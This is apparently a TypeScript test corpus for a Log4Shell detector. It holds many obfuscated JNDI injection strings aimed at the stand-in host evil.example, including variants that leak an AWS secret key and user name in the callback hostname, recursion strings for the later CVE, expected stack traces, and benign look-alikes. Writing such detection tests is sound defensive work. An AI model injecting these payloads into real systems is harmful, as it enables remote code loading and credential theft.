/**
 * The project's own corpus of exploit strings and of benign lines that look like them.
 * Every attack names its family, the decoded form the detector must print and the callback
 * target it must report. Strings are written out by hand from the obfuscation families the
 * advisories and DETECTION.md describe; none is copied from another tool's test set.
 */

export interface Attack {
  family: string;
  line: string;
  /** The decoded JNDI lookup, `${jndi:...}`. */
  decoded: string;
  protocol: string;
  host: string;
  port?: number;
  path: string;
  callbackHost?: string;
  bypass?: 'hash-host';
  /** Expressions the string exfiltrates, with where they sit. */
  exfiltrates?: Array<{ expression: string; where: 'host' | 'port' | 'path' | 'protocol' }>;
  /** Obfuscation families the detector must name. */
  obfuscation?: string[];
  /** The single tool the issue names misses this one (see test/support/gap-matcher.ts). */
  gapMatcherMisses?: boolean;
}

const E = 'evil.example';

/** A padding lookup whose name is longer than the 40-character gap the best single tool allows. */
const PAD = '${env:THIS_VARIABLE_DOES_NOT_EXIST_AND_PADS_THE_GAP_BEYOND_FORTY:-';

export const ATTACKS: Attack[] = [
  // --- plain, every JNDI protocol
  {
    family: 'plain',
    line: `\${jndi:ldap://${E}:1389/a}`,
    decoded: `\${jndi:ldap://${E}:1389/a}`,
    protocol: 'ldap',
    host: E,
    port: 1389,
    path: '/a',
  },
  {
    family: 'protocol',
    line: `\${jndi:ldaps://${E}/a}`,
    decoded: `\${jndi:ldaps://${E}/a}`,
    protocol: 'ldaps',
    host: E,
    path: '/a',
  },
  {
    family: 'protocol',
    line: `\${jndi:rmi://${E}:1099/Object}`,
    decoded: `\${jndi:rmi://${E}:1099/Object}`,
    protocol: 'rmi',
    host: E,
    port: 1099,
    path: '/Object',
  },
  {
    family: 'protocol',
    line: `\${jndi:dns://${E}/probe}`,
    decoded: `\${jndi:dns://${E}/probe}`,
    protocol: 'dns',
    host: E,
    path: '/probe',
  },
  {
    family: 'protocol',
    line: `\${jndi:iiop://${E}:900/x}`,
    decoded: `\${jndi:iiop://${E}:900/x}`,
    protocol: 'iiop',
    host: E,
    port: 900,
    path: '/x',
  },
  {
    family: 'protocol',
    line: `\${jndi:corba://${E}:1050/x}`,
    decoded: `\${jndi:corba://${E}:1050/x}`,
    protocol: 'corba',
    host: E,
    port: 1050,
    path: '/x',
  },
  {
    family: 'protocol',
    line: `\${jndi:nds://${E}/o=x}`,
    decoded: `\${jndi:nds://${E}/o=x}`,
    protocol: 'nds',
    host: E,
    path: '/o=x',
  },
  {
    family: 'protocol',
    line: `\${jndi:nis://${E}/x}`,
    decoded: `\${jndi:nis://${E}/x}`,
    protocol: 'nis',
    host: E,
    path: '/x',
  },
  {
    family: 'protocol',
    line: `\${jndi:http://${E}:8080/Exploit.class}`,
    decoded: `\${jndi:http://${E}:8080/Exploit.class}`,
    protocol: 'http',
    host: E,
    port: 8080,
    path: '/Exploit.class',
  },
  // --- case
  {
    family: 'case',
    line: `\${JnDi:LdAp://${E}/a}`,
    decoded: `\${jndi:LdAp://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['case'],
  },
  {
    family: 'case',
    line: `GET / HTTP/1.1 UA=\${JNDI:RMI://EVIL.EXAMPLE/A}`,
    decoded: `\${jndi:RMI://EVIL.EXAMPLE/A}`,
    protocol: 'rmi',
    host: E,
    path: '/A',
    obfuscation: ['case'],
  },
  // --- lower / upper
  {
    family: 'lower',
    line: `\${\${lower:j}\${lower:n}\${lower:d}i:\${lower:r}mi://${E}/x}`,
    decoded: `\${jndi:rmi://${E}/x}`,
    protocol: 'rmi',
    host: E,
    path: '/x',
    obfuscation: ['lower', 'nested'],
  },
  {
    family: 'lower',
    line: `\${\${lower:JNDI}:\${lower:LDAP}://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['lower'],
  },
  {
    family: 'upper',
    line: `\${\${upper:j}ndi:\${upper:l}dap://${E}/a}`,
    decoded: `\${jndi:Ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['upper'],
  },
  // --- defaults of any lookup
  {
    family: 'default',
    line: `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}://${E}:1389/a}`,
    decoded: `\${jndi:ldap://${E}:1389/a}`,
    protocol: 'ldap',
    host: E,
    port: 1389,
    path: '/a',
    obfuscation: ['default'],
  },
  {
    family: 'default',
    line: `\${\${env:NOPE:-j}ndi\${env:NOPE:-:}\${env:NOPE:-l}dap\${env:NOPE:-:}//${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['default'],
  },
  {
    family: 'default',
    line: `\${\${k8s:k5:-j}\${k8s:x:-ND}i:\${sys:x:-l}dap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['default'],
  },
  {
    family: 'default',
    line: `\${\${abc:def:-j}ndi:\${abc:def:-r}mi://${E}/a}`,
    decoded: `\${jndi:rmi://${E}/a}`,
    protocol: 'rmi',
    host: E,
    path: '/a',
    obfuscation: ['default'],
  },
  // --- gaps longer than 40 characters between the letters
  {
    family: 'long-gap',
    line: `\${${PAD}j}${PAD}n}${PAD}d}${PAD}i}:${PAD}l}dap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['default'],
    gapMatcherMisses: true,
  },
  // --- date
  {
    family: 'date',
    line: `\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:\${date:'l'}dap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['date'],
  },
  {
    family: 'date',
    line: `\${\${date:'jnd'}i:\${date:'ld'}ap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['date'],
  },
  // --- base64, in fragments and whole
  {
    family: 'base64',
    line: `\${\${base64:am5kaQ==}:ldap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['base64'],
    gapMatcherMisses: true,
  },
  {
    family: 'base64',
    line: `\${base64:${Buffer.from(`\${jndi:rmi://${E}/b}`).toString('base64')}}`,
    decoded: `\${jndi:rmi://${E}/b}`,
    protocol: 'rmi',
    host: E,
    path: '/b',
    obfuscation: ['base64'],
  },
  // --- URL encoding, repeated
  {
    family: 'url',
    line: `GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F${E}%2Fa%7D HTTP/1.1`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['url'],
  },
  {
    family: 'url',
    line: `%2524%257Bjndi%253Aldap%253A%252F%252F${E}%252Fa%257D`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['url'],
  },
  {
    family: 'url',
    line: `q=%25252524%2525257Bjndi:ldap://${E}/a%2525257D`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['url'],
  },
  {
    family: 'url',
    line: `%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F${E}%2Fa%7D`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['url', 'lower'],
  },
  // --- \u, \x, octal
  {
    family: 'unicode-escape',
    line: `\\u0024\\u007bjndi:ldap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['unicode-escape'],
    gapMatcherMisses: true,
  },
  {
    family: 'unicode-escape',
    line: `{"msg":"\\u0024\\u007b\\u006a\\u006e\\u0064\\u0069:ldap://${E}/a\\u007d"}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['unicode-escape'],
    gapMatcherMisses: true,
  },
  {
    family: 'hex-escape',
    line: `\\x24\\x7bjndi:ldap://${E}/a\\x7d`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['hex-escape'],
    gapMatcherMisses: true,
  },
  {
    family: 'octal-escape',
    line: `\\044\\173jndi:ldap://${E}/a\\175`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['octal-escape'],
    gapMatcherMisses: true,
  },
  // --- HTML numeric escapes
  {
    family: 'html-escape',
    line: `&#36;&#123;jndi:ldap://${E}/a&#125;`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['html-escape'],
    gapMatcherMisses: true,
  },
  {
    family: 'html-escape',
    line: `&#x24;&#x7B;&#x6a;ndi:ldap://${E}/a&#x7d;`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['html-escape'],
    gapMatcherMisses: true,
  },
  {
    family: 'html-escape',
    line: `&dollar;&lbrace;jndi:ldap://${E}/a&rbrace;`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['html-escape'],
    gapMatcherMisses: true,
  },
  // --- Unicode look-alikes that Java's case mapping turns into ASCII
  {
    family: 'lookalike',
    line: `\${jnd\u0131:ldap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['lookalike'],
    gapMatcherMisses: true,
  },
  {
    family: 'lookalike',
    line: `\${\${upper:jnd\u0131}:ldap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['upper'],
    gapMatcherMisses: true,
  },
  {
    family: 'lookalike',
    line: `\${jndi:\${upper:dn\u017f}://${E}/a}`,
    decoded: `\${jndi:DNS://${E}/a}`,
    protocol: 'dns',
    host: E,
    path: '/a',
    obfuscation: ['upper'],
  },
  {
    family: 'lookalike',
    line: `\${jndi:ldap://\u212Aevil.example/a}`,
    decoded: `\${jndi:ldap://\u212Aevil.example/a}`,
    protocol: 'ldap',
    host: 'kevil.example',
    path: '/a',
  },
  {
    family: 'lookalike',
    line: `\${\u01F0ndi:ldap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['lookalike'],
    gapMatcherMisses: true,
  },
  // --- ${sys:file.separator} for '/'
  {
    family: 'sys-separator',
    line: `\${jndi:ldap:\${sys:file.separator}\${sys:file.separator}${E}\${sys:file.separator}a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['sys'],
  },
  // --- CVE-2021-45046: 127.0.0.1#evil
  {
    family: 'hash-host',
    line: `\${jndi:ldap://127.0.0.1#${E}:1389/a}`,
    decoded: `\${jndi:ldap://127.0.0.1#${E}:1389/a}`,
    protocol: 'ldap',
    host: `127.0.0.1#${E}`,
    port: 1389,
    path: '/a',
    callbackHost: E,
    bypass: 'hash-host',
  },
  {
    family: 'hash-host',
    line: `\${jndi:ldap://localhost#${E}/a}`,
    decoded: `\${jndi:ldap://localhost#${E}/a}`,
    protocol: 'ldap',
    host: `localhost#${E}`,
    path: '/a',
    callbackHost: E,
    bypass: 'hash-host',
  },
  // --- exfiltration
  {
    family: 'exfiltration',
    line: `\${jndi:ldap://\${env:AWS_SECRET_ACCESS_KEY}.${E}/a}`,
    decoded: `\${jndi:ldap://\${env:AWS_SECRET_ACCESS_KEY}.${E}/a}`,
    protocol: 'ldap',
    host: `\${env:AWS_SECRET_ACCESS_KEY}.${E}`,
    path: '/a',
    callbackHost: E,
    exfiltrates: [{ expression: '${env:AWS_SECRET_ACCESS_KEY}', where: 'host' }],
  },
  {
    family: 'exfiltration',
    line: `\${jndi:dns://${E}/\${sys:java.version}/\${java:os}/\${hostName}}`,
    decoded: `\${jndi:dns://${E}/\${sys:java.version}/\${java:os}/\${hostName}}`,
    protocol: 'dns',
    host: E,
    path: '/${sys:java.version}/${java:os}/${hostName}',
    exfiltrates: [
      { expression: '${sys:java.version}', where: 'path' },
      { expression: '${java:os}', where: 'path' },
      { expression: '${hostName}', where: 'path' },
    ],
  },
  // --- nested combinations
  {
    family: 'nested',
    line: `\${\${::-\${lower:J}}\${upper:\${::-n}}\${date:'d'}\${base64:aQ==}:\${lower:L}\${::-d}ap://\${env:USER}.${E}/\${sys:file.separator}a}`,
    decoded: `\${jndi:ldap://\${env:USER}.${E}//a}`,
    protocol: 'ldap',
    host: `\${env:USER}.${E}`,
    path: '//a',
    callbackHost: E,
    exfiltrates: [{ expression: '${env:USER}', where: 'host' }],
    obfuscation: ['default', 'lower', 'upper', 'date', 'base64', 'nested'],
    gapMatcherMisses: true,
  },
  {
    family: 'nested',
    line: `%24%7B%24%7B%3A%3A-j%7Dnd%5Cu0069%3Aldap%3A%2F%2F${E}%2Fa%7D`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['url', 'unicode-escape', 'default'],
    gapMatcherMisses: true,
  },
  {
    family: 'nested',
    line: `&#36;{\${lower:\${upper:j}}\\u006edi:\${::-l}dap://${E}/a}`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
    obfuscation: ['html-escape', 'unicode-escape', 'lower', 'upper', 'default'],
    gapMatcherMisses: true,
  },
  // --- logs that are not plain ASCII
  {
    family: 'non-ascii',
    line: `2021-12-10 12:00:01 ユーザー名: \${jndi:ldap://${E}/a} ログイン失敗 – café`,
    decoded: `\${jndi:ldap://${E}/a}`,
    protocol: 'ldap',
    host: E,
    path: '/a',
  },
];

/** The CVE-2021-45105 recursion strings. */
export const RECURSIONS: string[] = [
  '${${::-${::-$${::-j}}}}',
  'user=${ctx:${${::-${::-$${::-j}}}}}',
  '${${::-${::-${::-$${::-jndi}}}}}',
];

/** Log4j and the JDK's traces of a lookup that ran, with the trace kind and the confidence expected. */
export const TRACES: Array<{
  line: string;
  trace: string;
  confidence: 'high' | 'low';
  host?: string;
}> = [
  {
    line: `2021-12-10 12:00:00,123 main WARN Error looking up JNDI resource [ldap://${E}:1389/a]. javax.naming.CommunicationException: ${E}:1389 [Root exception is java.net.ConnectException: Connection refused]`,
    trace: 'jndi-lookup-error',
    confidence: 'high',
    host: E,
  },
  {
    line: '\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)',
    trace: 'jndi-lookup-frame',
    confidence: 'high',
  },
  {
    line: '\tat org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:172)',
    trace: 'jndi-lookup-frame',
    confidence: 'high',
  },
  {
    line: "javax.naming.ConfigurationException: The object factory is untrusted. Set the system property 'com.sun.jndi.ldap.object.trustURLCodebase' to 'true'.",
    trace: 'remote-class-loading',
    confidence: 'high',
  },
  {
    line: '\tat javax.naming.spi.NamingManager.getObjectFactoryFromReference(NamingManager.java:146)',
    trace: 'remote-class-loading',
    confidence: 'high',
  },
  {
    line: '\tat com.sun.jndi.ldap.Obj.decodeObject(Obj.java:235)',
    trace: 'remote-class-loading',
    confidence: 'high',
  },
  {
    line: 'java.lang.IllegalStateException: Infinite loop in property interpolation of ${${::-${::-$${::-j}}}}: :',
    trace: 'recursion-error',
    confidence: 'high',
  },
  {
    line: `javax.naming.CommunicationException: ${E}:1389 [Root exception is java.net.SocketTimeoutException: connect timed out]`,
    trace: 'naming-exception',
    confidence: 'low',
  },
  {
    line: '\tat com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1085)',
    trace: 'naming-exception',
    confidence: 'low',
  },
  {
    line: '\tat com.sun.jndi.rmi.registry.RegistryContext.lookup(RegistryContext.java:132)',
    trace: 'naming-exception',
    confidence: 'low',
  },
];

/** Long `${VAR}` templates: harmless, and what a characters-in-order matcher flags. */
export const TEMPLATES: string[] = [
  'CLASSPATH=${JAVA_HOME}/lib:${NODE_HOME}/lib:${DATA_DIR}/lib:${INSTALL_DIR}/lib:${LOG_DIR}:${DATA_ROOT}:${APP_PATH}:',
  'JAVA_OPTS="${JAVA_OPTS} -Dnode.id=${NODE_ID}:${LDAP_PORT}:${APP_DIR}"',
  'exec ${JAVA_BIN} -Dname=${NODE_NAME} -Ddir=${DATA_DIR}:${LOG_DIR}:${DAEMON_ARGS}:${APP_PORT}:${RMI_PORT}',
];

/** Benign lines that look like attacks: none may be flagged. */
export const BENIGN: string[] = [
  ...TEMPLATES,
  'JNDI datasource: ldap://corp:389',
  '2021-12-10 12:00:00 INFO  Looking up JNDI datasource java:comp/env/jdbc/OrdersDS',
  '<Resource name="jdbc/OrdersDS" auth="Container" type="javax.sql.DataSource" factory="org.apache.tomcat.jdbc.pool.DataSourceFactory"/>',
  'spring.datasource.jndi-name=java:comp/env/jdbc/OrdersDS',
  'javax.naming.NameNotFoundException: Name [jdbc/OrdersDS] is not bound in this Context. Unable to find [jdbc].',
  'javax.naming.AuthenticationException: [LDAP: error code 49 - 80090308: LdapErr: DSID-0C09042A, data 52e]',
  '\tat com.sun.jndi.ldap.LdapCtx.connect(LdapCtx.java:3236)',
  '<Property name="ds">${jndi:java:comp/env/jdbc/LoggingDS}</Property>',
  'contextName=${jndi:logging/context-name}',
  'log.dir=${user.home}/logs',
  'appender.file.fileName=${sys:user.home}/logs/app-${date:yyyy-MM-dd}.log',
  'cache=${env:HOME}/.cache/${ctx:requestId}/${lower:ABC}',
  'logs=${catalina.base}/logs/${hostName}.log',
  'price: $100 {discount} and $5 {tax}',
  '\tat com.example.Foo$1.run(Foo.java:12) ~[app.jar:?] at com.example.Foo$$Lambda$12/0x0000000800c0b000.apply',
  '10.0.0.1 - - [10/Dec/2021:12:00:00 +0000] "GET /search?q=jndi+ldap%20howto&page=2 HTTP/1.1" 200 512',
  'C:\\Users\\jndi\\x64\\044.log opened',
  '{"msg":"caf\\u00e9 \\u00e0 la carte","level":"INFO"}',
  'title=&#39;jndi &amp; ldap&#39; &#8212; a tutorial',
  'WAF rule 942: blocks jndi:ldap:// in headers',
  'Configured LDAP realm ldaps://ldap.corp.example:636/ou=people,dc=corp',
  "${::-hello} ${lower:WORLD} ${base64:aGVsbG8=} ${date:'at'}",
  'percent %24 of users, %7B0%7D placeholders',
];
